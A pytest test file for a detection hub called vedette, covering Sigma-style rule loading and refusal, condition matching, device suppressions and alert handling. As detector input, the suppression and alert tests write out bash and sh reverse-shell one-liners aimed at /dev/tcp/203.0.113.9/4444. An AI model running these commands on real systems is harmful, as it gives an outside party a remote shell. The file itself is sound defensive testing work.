"""Rule files: what loads, what is refused and why."""

import json
import re
import time
from pathlib import Path

import pytest
from detect_support import NOW, Rig, message, process

from vedette import cli
from vedette.hub.detect.alerts import AlertError, Suppression
from vedette.hub.detect.judge import Judge
from vedette.hub.detect.rules import RuleSet, load
from vedette.hub.detect.taxonomy import Observed
from vedette.hub.registry import Registry
from vedette.hub.settings import HubSettings, HubState
from vedette.wire.iothub import Identity

HEAD = "title: T\nlogsource: {product: linux, category: process_creation}\nlevel: high\n"


def loaded(tmp_path: Path, *texts: str) -> RuleSet:
    for number, text in enumerate(texts):
        (tmp_path / f"{number}.yml").write_text(text)
    return load(tmp_path, built_in=False)


def fires(rules: RuleSet, **details: object) -> bool:
    known = {"EventType": "EXEC", "Commandline": "", "Executable": "", "UserName": "", "UserId": 0}
    event = Observed("e", "d", "m", "Process", known | details, NOW, NOW, NOW, 1, "x")
    judge = Judge(rules.selections.values())
    try:
        return bool(judge.judge([event]))
    finally:
        judge.close()


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("title: [", "flow node"),
        ("", "holds no rule"),
        ("just a text", "not a mapping"),
        (HEAD, "detection"),
        (HEAD + "detection: {a: {Nonsense: 1}, condition: a}", "process_creation events have no Nonsense"),
        (
            HEAD + "detection: {a: {CurrentDirectory: x}, condition: a}",
            "process_creation events have no CurrentDirectory",
        ),
        (HEAD + "detection: {a: {CommandLine|re: '(['}, condition: a}", "(["),
        (HEAD + "detection: {a: {CommandLine|re: '(?=a)b'}, condition: a}", "(?="),
        (HEAD + "detection: {a: {CommandLine: x}, condition: b}", "b"),
        (
            HEAD.replace("linux", "windows") + "detection: {a: {CommandLine: x}, condition: a}",
            "product windows",
        ),
        (
            HEAD.replace("process_creation", "driver_load") + "detection: {a: {x: x}, condition: a}",
            "driver_load",
        ),
        (HEAD + "detection: {a: {CommandLine: x}, condition: a}\nvedette: {alret: x}", "alret"),
        (HEAD + "detection: {a: {CommandLine: x}, condition: a}\nvedette: {silence: soon}", "soon"),
        (HEAD + "detection: {a: {CommandLine: x}, condition: a}\nvedette: {entity: [Colour]}", "Colour"),
        (
            "title: C\ncorrelation: {type: event_count, rules: [gone], timespan: 5m, condition: {gte: 3}}",
            "gone",
        ),
        (
            "title: C\ncorrelation:"
            " {type: value_avg, rules: [a], timespan: 5m, condition: {gte: 3, field: x}}",
            "value_avg",
        ),
    ],
)
def test_a_file_that_cannot_be_used_is_named_with_its_reason(tmp_path: Path, text: str, reason: str):
    """And the rest load."""
    good = HEAD + "detection: {a: {CommandLine: x}, condition: a}"
    rules = loaded(tmp_path, text, good)
    assert len(rules.rules) == 1
    [refused] = rules.refused
    assert refused.path.endswith("0.yml")
    assert reason in refused.reason


@pytest.mark.parametrize(
    ("detection", "line", "expected"),
    [
        ("{a: {CommandLine: 'RM -rf'}, condition: a}", "rm -RF", True),
        ("{a: {CommandLine: 'rm*x?z'}, condition: a}", "rm -rf xyz", True),
        ("{a: {CommandLine: 'rm*x?z'}, condition: a}", "rm -rf xyzz", False),
        ("{a: {CommandLine|endswith: '100%'}, condition: a}", "echo 100%", True),
        ("{a: {CommandLine|contains|all: [a b, c]}, condition: a}", "c a b", True),
        ("{a: {CommandLine|startswith: a.c}, condition: a}", "abc", False),
        ("{a: {CommandLine|contains|cased: ABC}, condition: a}", "xabc", False),
        ("{a: {CommandLine|re: '^a.c$'}, condition: a}", "abc", True),
        ("{a: {CommandLine|re: '^A.c$'}, condition: a}", "abc", False),
        ("{a: {CommandLine|re|i: '^A.c$'}, condition: a}", "abc", True),
        ("{a: {UserId|lt: 5}, condition: a}", "x", True),
        ("{a: {CommandLine|contains: x}, b: {User: root}, condition: a and not b}", "x", True),
        ("{keywords: [needle], condition: keywords}", "a NEEDLE b", True),
        ("{keywords: [needle], condition: keywords}", "hay", False),
        ("{a: {Program: rm}, condition: a}", "sudo sh -c 'ls; /bin/rm x'", True),
        ("{a: {Program: rm, Operands|contains: /var}, condition: a}", "sh -c 'rm /tmp/x; ls /var'", False),
    ],
)
def test_conditions_mean_what_sigma_says(tmp_path: Path, detection: str, line: str, expected: bool):
    """Without regard to case, wildcards as such, expressions with case; one row has to fit."""
    rules = loaded(tmp_path, HEAD + f"detection: {detection}")
    assert rules.refused == ()
    assert fires(rules, Commandline=line) is expected


def test_verdicts_are_remembered_by_what_differs(tmp_path: Path):
    """An equal event is judged as before, one with another user anew."""
    rules = loaded(tmp_path, HEAD + "detection: {a: {Program: id, User: root}, condition: a}")
    judge = Judge(rules.selections.values())

    def seen(user: str, device: str) -> int:
        details = {"EventType": "EXEC", "Commandline": "id", "UserName": user}
        return len(judge.judge([Observed("e", device, "", "Process", details, NOW, NOW, NOW, 1, "m")]))

    assert [seen("root", "a"), seen("pi", "a"), seen("root", "b"), seen("pi", "b")] == [1, 0, 1, 0]
    judge.close()


def test_a_rule_may_name_devices(rig: Rig, tmp_path: Path):
    """By pattern."""
    rules = loaded(
        tmp_path, HEAD + "detection: {a: {Program: id}, condition: a}\nvedette: {devices: ['pump-*']}"
    )
    assert [rules.rules[0].concerns(name) for name in ("pump-1", "valve-1")] == [True, False]


async def test_a_suppression_covers_what_it_names_until_it_ends(rig: Rig):
    """By device pattern, security group, type and expression; what it kept back is counted."""
    registry = Registry(rig.url)
    registry.add(Identity("pump-1"))
    registry.close()
    suppress = rig.alerts.suppress
    soon = time.time() + 3600
    made = suppress(Suppression(device="pump-*", expression="Program=sh", until=soon, who="ada", why="drill"))
    shell = process("sh -c 'sh -i >& /dev/tcp/203.0.113.9/4444'")
    await rig.send(message(shell, device="pump-1"), message(shell, device="valve-1"))
    rig.judge(soon - 60)
    assert [(a.device_id, a.type) for a in rig.found()] == [("valve-1", "IoT_ReverseShell")]
    [kept] = rig.alerts.suppressions()
    assert (kept.id, kept.hits) == (made.id, 1)
    await rig.send(message(shell, device="pump-1", at=NOW + 60))
    rig.judge(soon + 60)
    assert sorted(a.device_id for a in rig.found()) == ["pump-1", "valve-1"]
    with pytest.raises(AlertError, match="names a device"):
        suppress(Suppression(until=soon, who="ada", why=""))
    with pytest.raises(AlertError, match="expression"):
        suppress(Suppression(expression="no pattern", until=soon, who="ada", why=""))


@pytest.fixture
def state(tmp_path: Path) -> HubState:
    made = HubState(tmp_path / "hub")
    made.save(HubSettings(host_names=("localhost",)))
    return made


def output(capsys: pytest.CaptureFixture[str], *arguments: str, status: int = 0) -> str:
    assert cli.main(arguments) == status
    return capsys.readouterr().out


def test_rules_are_listed_with_what_is_refused(capsys: pytest.CaptureFixture[str], state: HubState):
    """The owner's beside the built-in ones; without own ones nothing is refused."""
    shown = json.loads(output(capsys, "rules", "list", "--json", "--state", str(state.root)))
    assert shown["refused"] == []
    state.rules.mkdir()
    (state.rules / "broken.yml").write_text("title: [")
    shown = json.loads(output(capsys, "rules", "list", "--json", "--state", str(state.root)))
    assert "IoT_ReverseShell" in {rule["type"] for rule in shown["rules"]}
    [refused] = shown["refused"]
    assert refused["path"].endswith("broken.yml")


def test_a_rule_whose_example_is_wrong_fails_its_test(capsys: pytest.CaptureFixture[str], tmp_path: Path):
    """It is said which, and what happened instead."""
    rule = tmp_path / "r.yml"
    body = HEAD + "detection: {a: {Program: id}, condition: a}\nvedette: {examples: {fires: [Process: %s]}}"
    rule.write_text(body % "id")
    assert "1 rules, 1 examples, 0 wrong, 0 refused" in output(capsys, "rules", "test", str(rule))
    rule.write_text(body % "ls")
    assert re.search(r"fires 1: it did not fire", output(capsys, "rules", "test", str(rule), status=1))
    rule.write_text(body % "{colour: red}")
    assert "Process has no field colour" in output(capsys, "rules", "test", str(rule), status=1)


async def test_trying_a_rule_shows_what_it_would_have_found(
    capsys: pytest.CaptureFixture[str], state: HubState, tmp_path: Path
):
    """In the past of the hub, whose alerts stay as they are."""
    rig = Rig(state.root)
    now = time.time()
    await rig.send(message(process("id"), process("ls"), at=now - 3600, hits=2))
    rule = tmp_path / "r.yml"
    rule.write_text(HEAD + "detection: {a: {Program: id}, condition: a}")
    arguments = ("rules", "try", str(rule), "--json", "--state", str(state.root))
    shown = json.loads(output(capsys, *arguments))
    assert shown["events"] == 2
    assert [(one["type"], one["device_id"], one["hits"]) for one in shown["alerts"]] == [("T", "d1", 2)]
    assert json.loads(output(capsys, *arguments, "--since", "30m"))["events"] == 0
    assert rig.types() == []
    rig.database.close()


async def test_alerts_are_listed_shown_and_decided_about(capsys: pytest.CaptureFixture[str], state: HubState):
    """By the beginning of an id, with who and why."""
    rig = Rig(state.root)
    await rig.send(message(process("bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'")))
    rig.judge()
    at = ("--state", str(state.root))
    [alert] = json.loads(output(capsys, "alerts", "list", "--json", *at))
    assert (alert["type"], alert["status"]) == ("IoT_ReverseShell", "Active")
    short = alert["id"][:8]
    assert "/dev/tcp/203.0.113.9/4444" in output(capsys, "alerts", "show", short, *at)
    output(capsys, "alerts", "dismiss", short, "--why", "a drill", "--who", "ada", *at)
    assert json.loads(output(capsys, "alerts", "list", "--json", *at)) == []
    shown = json.loads(output(capsys, "alerts", "show", short, "--json", *at))
    assert [(c["who"], c["status"], c["why"]) for c in shown["changes"]] == [("ada", "Dismissed", "a drill")]
    output(capsys, "alerts", "resolve", short, *at)
    assert cli.main(["alerts", "show", "ffffffff-none", *at]) == 1
    assert "no such alert" in capsys.readouterr().err
    rig.database.close()
